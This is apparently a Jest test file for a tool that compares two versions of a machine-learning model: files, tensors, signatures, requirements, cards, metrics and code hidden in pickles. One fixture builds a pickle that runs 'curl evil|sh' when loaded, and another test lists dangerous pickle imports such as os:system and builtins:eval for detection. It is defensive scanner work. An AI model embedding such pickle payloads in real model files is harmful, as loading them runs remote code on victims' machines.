import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { comparePaths } from "../archive/index.js";
import type { Findings, Tensor } from "../findings/findings.js";
import type { ManifestFile } from "../types.js";
import { found } from "../inspect/inspect.test.helper.js";
import { carriesCode } from "./code.js";
import { file, side, tensor, weights } from "./diff.test.helper.js";
import { diffSchema } from "./types.js";
import { diffModels, type Diff } from "./index.js";
import { diffMarkdown } from "./markdown.js";
import { assertProperty } from "../testing/property.js";

const diff = (before: readonly ManifestFile[], after: readonly ManifestFile[]): Promise<Diff> =>
  diffModels(side("a", before), side("b", after));
const paths = (items: readonly { path: string }[]): string[] => items.map(({ path }) => path);

describe("files", () => {
  test("added, removed, changed, renamed, mode", async () => {
    const before = [file("a", "1"), file("changed", "1"), file("gone", "2"), file("old-name", "33"), file("run", "4")];
    const after = [file("a", "1"), file("changed", "one"), file("new", "5"), file("new-name", "33"), file("run", "4", { mode: 0o755 })];
    const { files, different } = await diff(before, after);
    expect(different).toBe(true);
    expect({ added: paths(files.added.items), removed: paths(files.removed.items) }).toEqual({ added: ["new"], removed: ["gone"] });
    expect(files.changed.items.map(({ before: from, after: to }) => [from.path, from.size, to.size, to.mode])).toEqual([
      ["changed", 1, 3, 0o644],
      ["run", 1, 1, 0o755],
    ]);
    expect(files.renamed).toMatchObject({ count: 1, items: [{ before: { path: "old-name" }, after: { path: "new-name" } }] });
  });

  test("a renamed file counts as changed code only if its new name makes it code", async () => {
    const python = { format: "python", code: { kind: "python", imports: [], unknown: [], whole: false } };
    const before = [file("kept.py", "k", { findings: python }), file("loader.txt", "import os")];
    const after = [file("a.py", "k", { findings: python }), file("loader.py", "import os", { findings: python })];
    const diff = await diffModels(side("a", before), side("b", after));
    expect(diff.files).toMatchObject({ renamed: { count: 2 }, added: { count: 0 }, removed: { count: 0 } });
    expect(diff.code).toEqual([{ path: "loader.py", after: python.code, newImports: [] }]);
  });

  test("a renamed file that becomes readable adds tensors", async () => {
    const findings = weights(tensor("w", "1"));
    const diff = await diffModels(side("a", [file("w.bin", "1")]), side("b", [file("w.safetensors", "1", { findings })]));
    expect(diff.tensors).toMatchObject({ added: { count: 1 }, tensorCount: { before: 0, after: 1 } });
  });

  test("pairs each renamed file with one partner; never pairs empty files", async () => {
    const { files } = await diff([file("a", "same"), file("b", "same"), file("empty", "")], [file("c", "same"), file("nothing", "")]);
    expect(files.renamed.items).toMatchObject([{ before: { path: "a" }, after: { path: "c" } }]);
    expect(paths(files.removed.items)).toEqual(["b", "empty"]);
    expect(paths(files.added.items)).toEqual(["nothing"]);
  });

  test("counts 5,000 files, and lists 1,000", async () => {
    const many = Array.from({ length: 5_000 }, (_, i) => file(String(i).padStart(5, "0"), `content ${i}`));
    const { files } = await diff([file("z", "z")], [...many, file("z", "z")]);
    expect(files.added.count).toBe(5_000);
    expect(files.added.items).toHaveLength(1_000);
  });

  test("no difference", async () => {
    const same = [file("a", "1", { findings: weights(tensor("w", "x")) })];
    expect(await diff(same, same)).toMatchObject({
      different: false,
      files: { changed: { count: 0 } },
      tensors: { tensorCount: { before: 1, after: 1 } },
    });
  });

  test("closes both sides, also if one fails", async () => {
    const [left, right] = [side("a", [file("a", "1"), file("b", "2")]), side("b", [file("a", "1")])];
    const failing = { ...right, entries: (async function* () {
      yield file("a", "1");
      await Promise.reject(new Error("connection reset"));
    })() }; // prettier-ignore
    await expect(diffModels(left, failing)).rejects.toThrow("connection reset");
    expect(left.closed()).toBe(true);
  });

  const some = fc.uniqueArray(fc.record({ path: fc.stringMatching(/^[a-d]{1,3}$/), content: fc.constantFrom("", "1", "2", "3") }), {
    selector: ({ path }) => path,
  });
  const filesOf = (all: readonly { path: string; content: string }[]): ManifestFile[] =>
    [...all].sort((a, b) => comparePaths(a.path, b.path)).map(({ path, content }) => file(path, content));

  test("counts every file exactly once, in both directions", async () => {
    await assertProperty(
      fc.asyncProperty(some, some, async (left, right) => {
        const [before, after] = [filesOf(left), filesOf(right)];
        const { files, different } = await diff(before, after);
        const untouched = before.filter(({ path, sha256 }) => after.some((one) => one.path === path && one.sha256 === sha256)).length;
        expect(files.removed.count + files.renamed.count + files.changed.count + untouched).toBe(before.length);
        expect(files.added.count + files.renamed.count + files.changed.count + untouched).toBe(after.length);
        expect(different).toBe(untouched !== before.length || untouched !== after.length);
        const back = await diff(after, before);
        expect(back.files.added.count).toBe(files.removed.count);
        expect(back.files.renamed.count).toBe(files.renamed.count);
      }),
    );
  });
});

describe("tensors", () => {
  const in1 = (path: string, content: string, ...tensors: Tensor[]): ManifestFile => file(path, content, { findings: weights(...tensors) });

  test("shape, type, content, added, removed, renamed; unchanged tensors are not listed", async () => {
    const { tensors } = await diff(
      [
        in1(
          "m",
          "1",
          tensor("same", "s"),
          tensor("content", "1"),
          tensor("shape", "2"),
          tensor("type", "3"),
          tensor("old", "r"),
          tensor("gone", "4"),
        ),
      ],
      [
        in1(
          ...(["m", "2", tensor("same", "s"), tensor("content", "x"), tensor("shape", "y", { shape: [4] })] as const),
          ...[tensor("type", "3", { dtype: "int32" }), tensor("new-name", "r"), tensor("added", "5", { shape: [10] })],
        ),
      ],
    );
    expect(tensors.changed.items.map(({ after, shape, dtype, content }) => [after.name, shape, dtype, content])).toEqual([
      ["content", false, false, true],
      ["shape", true, false, true],
      ["type", false, true, false],
    ]);
    expect(tensors.renamed.items).toMatchObject([{ before: { name: "old" }, after: { name: "new-name" } }]);
    expect([tensors.added.items, tensors.removed.items]).toMatchObject([[{ name: "added" }], [{ name: "gone" }]]);
    expect(tensors).toMatchObject({ tensorCount: { before: 6, after: 6 }, parameters: { before: 24, after: 30 } });
  });

  test("splitting a model into other files changes no tensor", async () => {
    const { tensors, files } = await diff(
      [in1("model.safetensors", "1", tensor("a", "a"), tensor("b", "b"))],
      [in1("model-1.safetensors", "2", tensor("a", "a")), in1("model-2.safetensors", "3", tensor("b", "b"))],
    );
    expect(files.added.count).toBe(2);
    for (const kind of ["added", "removed", "changed", "renamed"] as const) expect(tensors[kind].count).toBe(0);
  });

  test("tensors in external files may have changed if those files changed", async () => {
    const findings = { ...weights(tensor("w"), tensor("bias", "bias")), format: "onnx", properties: { external_data: "a.bin, b.bin" } };
    const model = file("sub/m.onnx", "m", { findings });
    const { tensors } = await diff([file("sub/b.bin", "1"), model], [file("sub/b.bin", "2"), model]);
    expect(tensors.changed.items).toMatchObject([{ after: { name: "w", path: "sub/m.onnx" } }]);
    expect(tensors.changed.items[0]).not.toHaveProperty("content");
    expect(tensors.tensorCount).toEqual({ before: 2, after: 2 });
    const unmoved = await diff([file("b.bin", "1"), model], [file("b.bin", "2"), model]);
    expect(unmoved.tensors).toMatchObject({ changed: { count: 0 }, tensorCount: { before: 2, after: 2 } });
  });

  test("the same name in two files means two tensors", async () => {
    const { tensors } = await diff(
      [in1("one", "1", tensor("coef_", "x")), in1("two", "2", tensor("coef_", "y"))],
      [in1("one", "3", tensor("coef_", "x")), in1("two", "4", tensor("coef_", "z"))],
    );
    expect(tensors.changed.items.map(({ after }) => after.path)).toEqual(["two"]);
  });

  test("tensors of the same name in other files are matched by content", async () => {
    const { tensors } = await diff(
      [in1("one", "1", tensor("coef_", "x")), in1("two", "2", tensor("coef_", "y"))],
      [in1("four", "4", tensor("coef_", "y")), in1("three", "3", tensor("coef_", "x"))],
    );
    for (const kind of ["added", "removed", "changed", "renamed"] as const) expect(tensors[kind].count).toBe(0);
  });

  test("without a hash, a change of content is unknown", async () => {
    const { tensors } = await diff([in1("m", "1", tensor("a"))], [in1("m", "2", tensor("a"))]);
    expect(tensors.changed.items).toHaveLength(1);
    expect(tensors.changed.items[0]).not.toHaveProperty("content");
  });

  test("renaming a file changes no tensor", async () => {
    const { tensors } = await diff([in1("old", "1", tensor("a", "x"))], [in1("new", "1", tensor("a", "x"))]);
    expect(tensors).toMatchObject({
      changed: { count: 0 },
      added: { count: 0 },
      removed: { count: 0 },
      tensorCount: { before: 1, after: 1 },
    });
  });
});

describe("other findings", () => {
  const saying = (path: string, content: string, findings: Partial<Findings>): ManifestFile =>
    file(path, content, { findings: { format: "x", ...findings } });

  test("compares signature and requirements of the model, not of its parts", async () => {
    const column = { name: "age", type: "double", required: true };
    const parts = saying("parts/MLmodel", "p", { format: "mlflow", signature: { inputs: [] } });
    const { signature, requirements } = await diff(
      [
        saying("MLmodel", "1", { format: "mlflow", signature: { inputs: [column] } }),
        parts,
        saying("requirements.txt", "1", { format: "requirements", requirements: ["a==1"] }),
      ],
      [
        saying("MLmodel", "2", { format: "mlflow", signature: { inputs: [{ ...column, type: "string" }] } }),
        parts,
        saying("requirements.txt", "2", { format: "requirements", requirements: ["a==2"] }),
      ],
    );
    expect(signature).toMatchObject({ breaking: true, columns: [{ part: "inputs", column: "age", what: "type double → string" }] });
    expect(requirements).toEqual([{ name: "a", before: "==1", after: "==2" }]);
  });

  test("lists new imports of loading", async () => {
    const code = (...imports: string[]) => ({ kind: "pickle", imports, unknown: imports, whole: true });
    const { code: changes } = await diff(
      [
        saying("a.pkl", "1", { code: code("m:A") }),
        saying("b.pkl", "1", { code: code("m:B") }),
        saying("d.pkl", "1", { code: code("m:D") }),
        saying("run.py", "1", { code: { ...code(), kind: "python" } }),
      ],
      [
        saying("a.pkl", "2", { code: code("m:A") }),
        saying("b.pkl", "2", { code: code("m:B", "os:system") }),
        saying("c.pkl", "2", { code: code("m:C") }),
        saying("run.py", "2", { code: { ...code(), kind: "python" } }),
      ],
    );
    expect(changes.map(({ path, newImports }) => [path, newImports])).toEqual([
      ["b.pkl", ["os:system"]],
      ["run.py", []],
      ["d.pkl", []],
      ["c.pkl", ["m:C"]],
    ]);
  });

  test("a pickle with the same imports whose content is code", async () => {
    const code = async (command: string) => {
      const content = `cos\nsystem\n(S'${command}'\ntR.`;
      return file("m.pkl", content, { findings: await found("m.pkl", content) });
    };
    const result = await diff([await code("echo 1")], [await code("curl evil|sh")]);
    expect(result.code).toMatchObject([{ path: "m.pkl", newImports: [] }]);
    expect(diffMarkdown(result)).toContain("its content changed and may be different code");
    expect((await diff([await code("echo 1")], [await code("echo 1")])).code).toEqual([]);
  });

  test.each([
    [false, "sklearn.pipeline:Pipeline", true],
    [true, "cloudpickle.cloudpickle:_make_function", true],
    [true, "builtins:getattr", true],
    [true, "sklearn.pipeline:Pipeline", false],
  ])("reported: %s, if a pickle imports %s before and after, followed to its end: %s", async (reported, name, whole) => {
    const code = { kind: "pickle", imports: [name], unknown: [name], whole };
    const { code: changes } = await diff([saying("a.pkl", "1", { code })], [saying("a.pkl", "2", { code })]);
    expect(changes).toHaveLength(reported ? 1 : 0);
  });

  test.each(
    [
      "os:system posix:system nt:system subprocess:Popen builtins:eval __builtin__:eval builtins:exec builtins:compile marshal:loads types:CodeType",
      "_pickle:loads dill._dill:_create_function cloudpickle:loads joblib:load torch:load torch.storage:_load_from_bytes numpy:load runpy:_run_code",
      "numpy.f2py.crackfortran:getlincoef pip._internal:main functools:partial operator:methodcaller __main__:f importlib:import_module",
    ].flatMap((line) => line.split(" ")),
  )("%s runs what the pickle says", (name) => {
    expect(carriesCode(name)).toBe(true);
  });

  test("classes and functions of the usual libraries do not", () => {
    const names = "sklearn.tree._tree:Tree numpy.random._pickle:__randomstate_ctor xgboost.core:Booster lightgbm.basic:Booster osmnx:Graph";
    expect(names.split(" ").filter(carriesCode)).toEqual([]);
  });

  test("a pickle that can no longer be followed to its end", async () => {
    const code = { kind: "pickle", imports: ["m:A"], unknown: [], whole: true };
    const { code: changes } = await diff([saying("a.pkl", "1", { code })], [saying("a.pkl", "2", { code: { ...code, whole: false } })]);
    expect(changes).toHaveLength(1);
  });

  test("cards and properties", async () => {
    const { cards, properties } = await diff(
      [saying("README.md", "1", { card: { text: "# A\nold\nsame\n", cut: false }, properties: { license: "mit", gone: "x" } })],
      [saying("README.md", "2", { card: { text: "# A\nsame\nnew\n", cut: false }, properties: { license: "apache-2.0", added: "y" } })],
    );
    expect(cards).toEqual([{ path: "README.md", added: { count: 1, items: ["new"] }, removed: { count: 1, items: ["old"] } }]);
    expect(properties.items.map(({ property, before, after }) => [property, before, after])).toEqual([
      ["added", undefined, "y"],
      ["gone", "x", undefined],
      ["license", "mit", "apache-2.0"],
    ]);
  });

  test("metrics that are unknown on one side are not compared", async () => {
    const files = [file("a", "1")];
    const unknown = { ...side("b", files), metrics: undefined };
    expect(await diffModels(side("a", files, { auc: 0.9 }), unknown)).toMatchObject({ different: false, metrics: [] });
  });

  test("a difference in metrics alone counts", async () => {
    const files = [file("a", "1")];
    const result = await diffModels(side("a", files, { auc: 0.9 }), side("b", files, { auc: 0.8 }));
    expect(result).toMatchObject({ different: true, metrics: [{ name: "auc", verdict: "worse" }], files: { changed: { count: 0 } } });
  });
});

test("shortens the name of a side to what a report accepts", async () => {
  const diff = await diffModels(side("a", []), side(`/${"deep/".repeat(400)}churn`, []));
  expect(diffSchema.parse(diff).after.name).toMatch(/^\/deep.*….*churn$/);
  expect(diff.after.name).toHaveLength(1_024);
});
